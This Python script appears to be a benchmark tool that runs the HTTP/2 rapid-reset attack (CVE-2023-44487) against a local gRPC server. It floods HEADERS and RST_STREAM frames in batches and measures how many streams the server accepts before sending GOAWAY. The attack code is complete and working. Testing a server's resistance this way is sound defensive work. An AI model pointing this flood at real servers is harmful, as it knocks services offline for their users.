#!/usr/bin/env python3
"""A rapid-reset attacker (CVE-2023-44487) for bench/neighbours.sh (NEIGHBOURS=rapid-reset): on each connection it opens gRPC
Search streams and resets each at once (HEADERS, then RST_STREAM CANCEL), in batches, until the server
sends GOAWAY or closes; then it connects again, for --seconds. Prints one JSON object: connections,
streams sent, and of the connections the server cut, the median and largest number of streams it took
before its GOAWAY (the last stream id the GOAWAY names).

    python3 bench/rapid_reset_attacker.py --port 7621 --seconds 3
"""
import argparse
import json
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """HPACK literal without indexing, name from the static table (4-bit prefix), no Huffman."""
    out = bytearray([index]) if index < 15 else bytearray([15, index - 15])
    return bytes(out) + bytes([len(value)]) + value


# :method POST, :scheme http, then :path, :authority, content-type (static 31), te (a new name)
REQUEST = (b"\x83\x86" + literal(4, b"/isn.v1.Search/Search") + literal(1, b"localhost") +
           literal(31, b"application/grpc") + b"\x00\x02te\x08trailers")


def goaway_in(buffer):
    """(last stream id or None, bytes consumed) of the complete frames in buffer."""
    at, last = 0, None
    while len(buffer) - at >= 9:
        length = int.from_bytes(buffer[at:at + 3], "big")
        if len(buffer) - at < 9 + length:
            break
        if buffer[at + 3] == GOAWAY and length >= 8:
            last = int.from_bytes(buffer[at + 9:at + 13], "big") & 0x7FFFFFFF
        at += 9 + length
    return last, at


def one_connection(port, batch, until):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
    sock.setblocking(False)
    stream, sent, received, last = 1, 0, b"", None
    try:
        while last is None and time.monotonic() < until:
            out = bytearray()
            for _ in range(batch):
                out += frame(HEADERS, 4, stream, REQUEST) + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
                stream += 2
            try:
                sock.setblocking(True)
                sock.sendall(out)
                sock.setblocking(False)
            except OSError:
                break
            sent += batch
            try:
                while True:
                    chunk = sock.recv(65536)
                    if not chunk:
                        raise ConnectionResetError
                    received += chunk
                    found, used = goaway_in(received)
                    received = received[used:]
                    if found is not None:
                        last = found
            except BlockingIOError:
                pass
            except OSError:
                break
    finally:
        sock.close()
    return sent, last


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=3.0)
    p.add_argument("--batch", type=int, default=50)
    a = p.parse_args()
    until = time.monotonic() + a.seconds
    conns = []
    while time.monotonic() < until:
        try:
            sent, last = one_connection(a.port, a.batch, until)
        except OSError:
            time.sleep(0.01)
            continue
        conns.append({"sent": sent, "goaway_last_stream": last})
    # the streams the server took before its GOAWAY: client stream ids are odd, from 1
    cut = sorted((c["goaway_last_stream"] + 1) // 2 for c in conns if c["goaway_last_stream"] is not None)
    print(json.dumps({"connections": len(conns), "streams_sent": sum(c["sent"] for c in conns),
                      "cut_connections": len(cut), "median_streams_before_cut": cut[len(cut) // 2] if cut else None,
                      "max_streams_before_cut": cut[-1] if cut else None}))


if __name__ == "__main__":
    main()
